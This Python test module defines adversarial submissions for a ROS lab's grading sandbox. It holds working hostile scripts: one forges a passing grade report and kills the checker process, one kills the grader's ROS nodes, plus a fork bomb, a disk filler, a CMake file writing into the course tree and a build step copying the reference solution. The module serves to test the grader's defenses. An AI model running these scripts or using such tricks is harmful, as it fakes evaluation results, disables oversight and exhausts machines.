"""Adversarial lab 2 submissions for the sandbox's tests, labs/test-class.sh and the benchmark.

Each is a `make_repo` recipe (grading.selftest) on the lab 2 reference or starter: a package
that tries to get a pass without the lab work, or to harm the grader or the machine. Their
launch files end fast (a required node that exits) so that a grade takes seconds.
NEVER grade `fork_bomb` or `fill_disk` with --no-sandbox.
"""
import os
import subprocess

from grading.common import LABS_DIR

REPO = os.path.dirname(LABS_DIR)

ONE_NODE_LAUNCH = '''<launch>
  <arg name="isu" default="123451"/>
  <group ns="ns1_$(arg isu)">
    <node pkg="my_best_controller" type="%s" name="helper" output="screen" required="true"/>
  </group>
</launch>
'''

# reads the report path wherever it may be, writes a pass, kills the checker
FORGE_KILL = r'''#!/usr/bin/env python3
import glob, json, os, signal, time
import rospy
rospy.init_node('helper')
paths = set(glob.glob('/tmp/grade-lab2-*/report.json'))
try:
    p = rospy.get_param('/lab2_checker/report')
    if p:
        paths.add(p)
except KeyError:
    pass
pids = [p for p in os.listdir('/proc') if p.isdigit()]
for pid in pids:
    try:
        with open('/proc/%s/environ' % pid, 'rb') as f:
            for e in f.read().split(b'\0'):
                if e.startswith(b'GRADING_REPORT='):
                    paths.add(e.split(b'=', 1)[1].decode())
    except OSError:
        pass
crits = [{'id': str(i), 'title_ru': 'x', 'title_en': 'x', 'passed': True,
          'reason': {'ru': 'ok', 'en': 'ok'}, 'details': {}} for i in range(1, 7)]
for p in sorted(paths):
    try:
        with open(p, 'w') as f:
            json.dump(crits, f)
        print('forged', p, flush=True)
    except OSError as e:
        print('forge failed:', p, e, flush=True)
for pid in pids:
    try:
        with open('/proc/%s/cmdline' % pid, 'rb') as f:
            if b'check_lab2' in f.read():
                os.kill(int(pid), signal.SIGKILL)
                print('killed the checker', pid, flush=True)
    except OSError:
        pass
print('no checker to kill and no report to forge' if not paths else 'done', flush=True)
time.sleep(1)
'''

# `rosnode kill`s the checker (every node not its own) a few seconds after the turtles start
ROSNODE_KILL = r'''#!/usr/bin/env python3
import time
import rosnode
import rospy
rospy.init_node('killer')
time.sleep(4)
me = rospy.get_name()
others = [n for n in rosnode.get_node_names() if n != me and n != '/rosout'
          and not n.startswith(('/ns1_', '/ns2_'))]
print('rosnode kill', others, rosnode.kill_nodes(others), flush=True)
rospy.spin()
'''

FORK_BOMB = r'''#!/usr/bin/env python3
import os
while True:
    os.fork()
'''

# fills its disk: 64 MB files in /tmp, HOME, ROS_HOME and its own package (at most 1 GB; the
# files are removed at exit, in case it ever runs unsandboxed)
FILL_DISK = r'''#!/usr/bin/env python3
import os
chunk = b'\0' * (1 << 20)
total, made = 0, []
try:
    for d in ('/tmp', os.path.expanduser('~'), os.environ.get('ROS_HOME', '/tmp'), os.path.dirname(__file__)):
        os.makedirs(d, exist_ok=True)
        for i in range(4):
            made.append(os.path.join(d, 'fill%d' % i))
            with open(made[-1], 'wb') as f:
                for _ in range(64):
                    f.write(chunk)
                    total += 1
finally:
    print('wrote %d MB' % total, flush=True)
    for p in made:
        try:
            os.remove(p)
        except OSError:
            pass
'''

QUIT = r'''#!/usr/bin/env python3
print('nothing here: the reference was to be copied at build time', flush=True)
'''

CMAKE_WRITES = '''
# writes into the course tree at build time
file(WRITE "$ENV{COURSE_REPO}/labs/grading/pwned_by_student.txt" "owned\\n")
file(WRITE "$ENV{COURSE_REPO}/catkin_ws/src/pwned_by_student.txt" "owned\\n")
'''

COPY_REFERENCE_CMAKE = '''cmake_minimum_required(VERSION 3.0.2)
project(my_best_controller)
find_package(catkin REQUIRED COMPONENTS rospy std_msgs geometry_msgs turtlesim)
# copies the reference solution over its own sources at build time
execute_process(COMMAND cp -r "$ENV{COURSE_REPO}/labs/lab2/reference/my_best_controller/."
                "${CMAKE_CURRENT_SOURCE_DIR}/"
                RESULT_VARIABLE copy_rc ERROR_VARIABLE copy_err)
message(STATUS "copy of the reference: ${copy_rc} ${copy_err}")
if(EXISTS "${CMAKE_CURRENT_SOURCE_DIR}/setup.py")
  catkin_python_setup()
endif()
catkin_package()
'''

PWNED = ['labs/grading/pwned_by_student.txt', 'catkin_ws/src/pwned_by_student.txt']


def recipes():
    """{name: make_repo kwargs}."""
    with open(os.path.join(LABS_DIR, 'lab2', 'reference', 'my_best_controller', 'CMakeLists.txt')) as f:
        ref_cmake = f.read()
    kill_launch = ('<node pkg="turtlesim" type="turtlesim_node" name="turtlesim"/>\n',
                   '<node pkg="turtlesim" type="turtlesim_node" name="turtlesim"/>\n'
                   '    <node pkg="my_best_controller" type="killer.py" name="killer" output="screen"/>\n')
    return {
        'forge_kill': {'add': {'launch/lab2_setup.launch': ONE_NODE_LAUNCH % 'forge.py',
                               'scripts/forge.py': FORGE_KILL}},
        'cmake_writes': {'add': {'CMakeLists.txt': ref_cmake + CMAKE_WRITES}},
        'copies_reference': {'source': 'starter',
                             'add': {'CMakeLists.txt': COPY_REFERENCE_CMAKE,
                                     'launch/lab2_setup.launch': ONE_NODE_LAUNCH % 'lab2_controller.py',
                                     'scripts/lab2_controller.py': QUIT}},
        'rosnode_kill': {'edits': [('launch/lab2_setup.launch',) + kill_launch],
                         'add': {'scripts/killer.py': ROSNODE_KILL}},
        'fork_bomb': {'add': {'launch/lab2_setup.launch': ONE_NODE_LAUNCH % 'bomb.py',
                              'scripts/bomb.py': FORK_BOMB}},
        'fill_disk': {'add': {'launch/lab2_setup.launch': ONE_NODE_LAUNCH % 'fill.py',
                              'scripts/fill.py': FILL_DISK}},
    }


def tree_digest(root=REPO, parts=('labs', 'catkin_ws/src', 'scripts', 'deps')):
    """{relative path: sha1} of every file of the course tree's sources (no caches)."""
    out = {}
    cmd = ['bash', '-c', 'cd "$1" && shift && find "$@" -type f ! -path "*/__pycache__/*" '
           '! -path "*/.pytest_cache/*" ! -name "*.pyc" -print0 | sort -z | xargs -0 -r sha1sum',
           'x', root] + list(parts)
    text = subprocess.run(cmd, stdout=subprocess.PIPE, check=True, timeout=300).stdout.decode(errors='replace')
    for line in text.splitlines():
        digest, path = line.split(None, 1)
        out[path] = digest
    return out
